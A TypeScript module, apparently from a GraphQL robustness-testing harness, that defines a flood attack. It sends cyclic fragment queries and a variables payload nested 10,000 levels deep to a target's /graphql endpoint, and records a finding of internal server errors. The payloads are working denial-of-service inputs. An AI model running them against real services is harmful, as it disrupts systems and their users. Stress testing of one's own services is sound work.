import type { Attack } from './attack.ts';
import { flood } from './flood.ts';

const CYCLE = Array.from({ length: 50 }, (_, n) => `fragment F${n} on Query {...F${(n + 1) % 50}}`);
const DEEP = '['.repeat(10_000) + ']'.repeat(10_000);

export const endlessNesting: Attack = {
  name: 'fragments in a cycle, variables 10,000 deep',
  promise: 'answered as the fault of the sender; 50 points each',
  found: 'INTERNAL errors, 180 lines of level error',
  keepsToBudget: false,
  run: (target, until) =>
    flood(target, until, 8, (number) => ({
      path: '/graphql',
      json:
        number % 2 === 0
          ? { query: `{ ...F0 a${number}: __typename } ${CYCLE.join(' ')}` }
          : `{"query":"query ($id: ID!) { a${number}: node(id: $id) { id } }","variables":{"id":${DEEP}}}`,
    })),
};
